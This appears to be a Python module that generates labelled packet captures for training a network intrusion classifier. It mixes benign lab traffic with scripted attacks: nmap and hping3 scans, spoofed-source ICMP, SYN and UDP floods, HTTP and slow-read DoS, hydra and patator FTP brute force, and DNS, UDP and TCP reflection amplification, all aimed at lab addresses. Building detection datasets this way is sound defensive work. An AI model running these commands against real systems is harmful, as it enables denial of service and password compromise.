"""The training captures: other seeds, rates and mixes than the captures that hold a model to account, and a server far away.

One run, seen from several places: on the clients' side of the long wire, at the
server in either direction alone, and at the victim of reflections. Half the captures
of attacks and of ordinary traffic that people share are one-way, so being one-way must not
become the mark of an attack.
Not here: what a label row looks like (`label`).
"""

import contextlib
import dataclasses
import random
import subprocess
import time

import attack
import benign
import label
import pack
from attack import Attack, Scale, Target
from capture import Capture
from reflector import ANSWERS
from server import DOMAIN, PASSWORD
from stacks import Stacks
from topology import ATTACKER, CLIENTS, LAB, NOBODY_V4, QUIET_V4, REFLECTIONS, SCRATCH, SERVER, SERVER_PORT, SILENT_V4, VICTIM_V4

# Enough for Ethernet, IPv6 and the TCP header that the classifier reads.
SNAPLEN_BYTES = 80
ACTORS_PER_CLIENT = 9
PATIENCE_S = 25
LEAD_S = 20
PAUSE_S = 1
SLICE_S = 120
LATE_S = 40
TYPIST_LIMIT_S = 60

SLOW = Scale(ports_count=40, scan_rate_max=20, service_probes=True, flood_packets_count=600, flood_interval_us=5000,
             slow_connections_count=40, slow_s=20, passwords_count=50, limit_s=40)
FAST = Scale(ports_count=150, scan_rate_max=1000, service_probes=False, flood_packets_count=900, flood_interval_us=200,
             slow_connections_count=70, slow_s=8, passwords_count=80, limit_s=30)


def record(seed, folder, output, say):
    """Record into `folder`, write the slices into `output` and return their label rows."""
    views = {
        # Who reflects sees the forged questions, which look like any client's; the victim sees the answers.
        "train-clients.pcap": {"expression": f"not host {VICTIM_V4} and not (host {SILENT_V4} and not host {ATTACKER.v4})"},
        "train-to-server.pcap": {"device": SERVER_PORT, "direction": "out"},
        # What a server sends to ordinary clients; its answers to an attacker look like these, so they are left out.
        "train-from-server.pcap": {"device": SERVER_PORT, "direction": "in",
                                   "expression": f"not host {ATTACKER.v4} and not host {ATTACKER.v6} and not host {NOBODY_V4} and not net 198.19.0.0/16"},
        "train-victim.pcap": {"device": f"to-{CLIENTS[0].name}"},
    }
    windows = []
    with contextlib.ExitStack() as running:
        for name, view in views.items():
            running.enter_context(Capture(folder / name, snaplen_bytes=SNAPLEN_BYTES, **view))
        running.enter_context(Stacks(seed))
        running.enter_context(benign.Crowd(f"{seed}/training", PATIENCE_S, ACTIVITIES, ACTORS_PER_CLIENT))
        time.sleep(LEAD_S)
        for scale in (SLOW, FAST):
            for one in (*attack.ATTACKS, *FURTHER):
                say(f"  {one.name}")
                windows.append(attack.wage(one, scale))
                time.sleep(attack.MARGIN_AFTER_S + attack.MARGIN_BEFORE_S + PAUSE_S)
        time.sleep(LEAD_S)
    # Nothing but attacks comes from these addresses here, so a window may last longer than its tool: late answers belong to what caused
    # them. The latest window comes first, and the first row that matches wins.
    windows = [dataclasses.replace(window, end_s=window.end_s + LATE_S) for window in reversed(windows)]
    return [row for name in views for piece, start_s, end_s in pack.pack(folder / name, output, SLICE_S)
            for row in label.rows(piece, [window for window in windows if window.start_s < end_s and window.end_s > start_s])]


def talk(kind):
    def activity(host, rng, family):
        address = SERVER.v4 if family == "-4" else SERVER.v6
        if kind == "knock" and rng.random() < 0.3:
            address = QUIET_V4
        host.run(["/usr/bin/python3", LAB / "talk.py", kind, address, rng.getrandbits(32)], benign.LIMIT_S)
    return activity


def ftp(host, rng, family):
    """A listing or a file by FTP, now and then with a mistyped password first."""
    address = SERVER.v4 if family == "-4" else f"[{SERVER.v6}]"
    path = rng.choice(("", "object/", f"object/{rng.randrange(20)}", f"download/{rng.randrange(2)}"))
    for password in ([benign.PASSWORD[:-1]] if rng.random() < 0.2 else []) + [benign.PASSWORD]:
        host.run([*benign.CURL, "-u", f"{benign.ACCOUNT}:{password}", "-o", "/dev/null", f"ftp://{address}/{path}"], benign.LIMIT_S)


def forget_neighbours(host, rng, family):
    """Neighbours are looked for again now and then."""
    host.run(["ip", "neigh", "flush", "dev", "lan0"], benign.LIMIT_S)


def eager(host, rng, family):
    """Objects over connections whose SYN asks for a Fast Open cookie."""
    first, last = benign._objects(rng, 6)
    host.run([*benign.CURL, family, "--tcp-fastopen", "--http1.1", "-H", "Connection: close", "-o", "/dev/null",
              f"{benign._site(rng)}/object/[{first}-{last}]"], benign.LIMIT_S)


def typist(host, rng, family):
    """Somebody logs in by password and types, key by key."""
    session = host.start(["sshpass", "-p", PASSWORD, "ssh", "-tt", family, "-F", SCRATCH / "ssh_config", "-o", "PubkeyAuthentication=no",
                          benign.WEB], TYPIST_LIMIT_S, stdin=subprocess.PIPE)
    try:
        time.sleep(rng.uniform(0.5, 2))
        for key in "".join(rng.choices(("ls -l /etc\n", "cat /etc/services\n", "df -h\n", "ps\n", "echo a longer line of text\n"), k=rng.randint(2, 6))):
            session.stdin.write(key.encode())
            session.stdin.flush()
            time.sleep(rng.uniform(0.04, 0.35) if key != "\n" else rng.uniform(0.3, 2))
        session.stdin.write(b"exit\n")
        session.stdin.close()
    except BrokenPipeError:
        pass
    session.wait()


def unanswered_lookup(host, rng, family):
    host.run(["dig", f"@{QUIET_V4}", "+tries=2", "+time=1", f"www.{DOMAIN}", "A"], benign.LIMIT_S)


# The everyday protocols, and what the other captures have too, in other proportions.
ACTIVITIES = (
    *((talk(kind), 2) for kind in ("ntp", "snmp", "coap", "game", "voice", "log", "bulk", "mqtt", "chat", "idle", "poll", "stream", "refused", "peer", "groups")),
    (talk("echo"), 5), (talk("application"), 22), (talk("question"), 14), (talk("beat"), 3), (talk("quic"), 5), (eager, 6), (typist, 3),
    (talk("mail"), 4), (talk("announce"), 3), (talk("search"), 3), (talk("knock"), 3), (ftp, 5), (unanswered_lookup, 2), (forget_neighbours, 3),
    (benign.page, 7), (benign.page_at_once, 6), (benign.objects_one_by_one, 8), (benign.reading, 4), (benign.mirror, 2),
    (benign.download, 2), (benign.upload, 3), (benign.private_page, 4), (benign.lookups, 14), (benign.shell, 3),
    (benign.password_login, 4), (benign.copy, 2), (benign.ping, 3), (benign.measurement, 1),
)


def silent_scan(scale):
    """nmap at a host that drops everything, and at one port of many addresses."""
    nmap = ["nmap", "-n", "-Pn", "--max-retries", 1, "--max-rate", scale.scan_rate_max]
    return [[*nmap, "-sS", "--top-ports", scale.ports_count // 2, SILENT_V4], [*nmap, "-sS", "-p", "22,80,443", *REFLECTIONS],
            [*nmap, "-sU", "-p", "53,111,123,137,161,500,514,1194,1434,1701,4500,5060", SILENT_V4],
            [*nmap, "-sA", "--top-ports", 20, SERVER.v4],
            # As stateless scanners do: one bare SYN or one empty datagram a port.
            *(["hping3", "-q", "-n", kind, "-p", f"++{first}", "-c", 4 * scale.ports_count, "-i", f"u{500_000 // scale.scan_rate_max}", target]
              for kind in ("-S", "--udp") for first, target in ((1, SILENT_V4), (7_900, SERVER.v4), (40_000, SILENT_V4))),
            # All kinds of ports by datagram: empty probes and those with a payload, silent and answered by ICMP.
            [*nmap, "-sU", "--top-ports", scale.ports_count * 2, SILENT_V4],
            [*nmap, "-sU", "--top-ports", scale.ports_count, SERVER.v4], [*nmap, "-6", "-sU", "--top-ports", scale.ports_count, SERVER.v6],
            [*nmap, "-sU", "-sV", "--version-light", "-p", "53,123,161,500,5683", SERVER.v4],
            [*nmap, "-A", "--osscan-limit", "-p", "22,80,443", SERVER.v4]]


def icmp_flood(scale):
    hping = ["hping3", "-q", "-n", "--icmp", "-i", f"u{scale.flood_interval_us}", "-c", scale.flood_packets_count]
    forged = [[*hping, "-c", 60, "-d", 64 * number, "-a", f"198.19.1.{number}", SERVER.v4] for number in range(1, 16)]
    return [[*hping, SERVER.v4], [*hping, "-d", 1200, SILENT_V4], *forged]


# What floods aim at: services that are often hit, and any other port.
FLOODED = (22, 25, 53, 443, 3389, 5060, 8080, 8443, 25_565, 27_015, 30_120, *random.Random("flooded").sample(range(1024, 65_536), 13))


def more_syns(scale):
    """hping3: SYNs from one port, to closed ports, and to a host that does not answer."""
    hping = ["hping3", "-q", "-n", "-S", "-i", f"u{scale.flood_interval_us * 4}"]
    few = scale.flood_packets_count // 12
    to_ports = [[*hping, "-c", few, "-p", port, (SILENT_V4, SERVER.v4)[number % 2]] for number, port in enumerate(FLOODED)]
    return [[*hping, "-c", 4 * few, "-p", 443, "-k", "-s", 4444, SILENT_V4], *to_ports]


def more_datagrams(scale):
    """hping3: datagrams of all sizes to any port, some from one port."""
    hping = ["hping3", "-q", "-n", "--udp", "-i", f"u{scale.flood_interval_us * 4}", "-c", scale.flood_packets_count // 12]
    sizes = (1, 18, 64, 200, 512, 1000, 1400)
    return [[*hping, *(["-k"] if number % 3 == 0 else []), "-d", sizes[number % len(sizes)], "-p", port, (SILENT_V4, SERVER.v4)[number % 2]]
            for number, port in enumerate(FLOODED)]


def http_flood(scale):
    """ab: as many pages as the server gives, a connection a page and over connections kept open."""
    requests = scale.flood_packets_count // 2
    return [["ab", "-q", "-n", requests, "-c", 20, f"http://{SERVER.v4}/object/3"],
            ["ab", "-q", "-k", "-n", requests, "-c", 10, f"http://[{SERVER.v6}]/object/5"]]


def slow_read(scale):
    return [["slowhttptest", "-X", "-c", scale.slow_connections_count, "-r", scale.slow_connections_count, "-l", scale.slow_s,
             "-w", 10, "-y", 20, "-n", 2, "-z", 32, "-k", 2, "-p", 3, "-u", f"http://{SERVER.v4}/download/1"]]


def ftp_guessing(scale):
    """hydra several times a connection, patator once a connection."""
    few = scale.passwords_count // 2
    return [["hydra", "-I", "-q", "-l", benign.ACCOUNT, "-t", 8, "-P", attack._words(few, "v4"), f"ftp://{SERVER.v4}"],
            ["patator", "ftp_login", f"host={SERVER.v4}", f"user={benign.ACCOUNT}", "password=FILE0",
             f"0={attack._words(few, 'v6')}", "persistent=0", "-t", 4, "--rate-limit=0.1", "-x", "ignore:code=530"]]


def amplification(*ports):
    """Forged questions to a dozen reflectors, answers to one port of the victim or to a new one each time."""
    def commands(scale):
        hping = ["hping3", "-q", "-n", "--udp", "-d", 40, "-i", f"u{scale.flood_interval_us * 4}"]
        for number in range(max(len(REFLECTIONS), len(ports))):
            reflector = REFLECTIONS[number % len(REFLECTIONS)]
            kept = ["-k", "-s", 1_900 + 2_719 * number] if number % 3 else ["-s", 1024 + 2_503 * number]
            victim = VICTIM_V4 if number % 2 else SILENT_V4
            yield [*hping, *kept, "-c", scale.flood_packets_count // 8, "-a", victim, "-p", ports[number % len(ports)], reflector]
    return lambda scale: list(commands(scale))


def tcp_reflection(scale):
    """Forged SYNs to open ports: the answers go to the victim."""
    hping = ["hping3", "-q", "-n", "-S", "-i", f"u{scale.flood_interval_us * 4}", "-c", scale.flood_packets_count // 12]
    return [[*hping, *(["-k"] if number % 4 == 3 else []), "-s", 1024 + 997 * number, "-a", VICTIM_V4 if number % 2 else SILENT_V4,
             "-p", (80, 443, 22)[number % 3], reflector] for number, reflector in enumerate(REFLECTIONS)]


def _at(protocol, port, *addresses):
    return tuple(Target(protocol, address, "", port) for address in addresses)


FURTHER = (
    Attack("portscan", silent_scan, (Target("", ATTACKER.v4, ""), Target("", ATTACKER.v6, ""))),
    Attack("dos-icmpflood", icmp_flood, (*_at("icmp", "", ATTACKER.v4),
                                         *_at("icmp", "", *(f"198.19.1.{number}" for number in range(1, 16))))),
    Attack("dos-synflood", more_syns, _at("tcp", "", ATTACKER.v4, NOBODY_V4), at_once=True),
    Attack("dos-udpflood", more_datagrams, (*_at("udp", "", ATTACKER.v4), *_at("icmp", "", ATTACKER.v4)), at_once=True),
    Attack("dos-http", http_flood, (*_at("tcp", "80", ATTACKER.v4), *_at("tcp", "80", ATTACKER.v6)), at_once=True),
    Attack("dos-slowread", slow_read, _at("tcp", "80", ATTACKER.v4)),
    Attack("ftp-bruteforce", ftp_guessing, _at("tcp", "", ATTACKER.v4)),
    Attack("ddos-dns-amplification", amplification(53), _at("", "", VICTIM_V4, SILENT_V4), at_once=True),
    Attack("ddos-udp-amplification", amplification(*(port for port in ANSWERS if port != 53)), _at("", "", VICTIM_V4, SILENT_V4), at_once=True),
    Attack("ddos-tcp-reflection", tcp_reflection, _at("", "", VICTIM_V4, SILENT_V4), at_once=True),
)
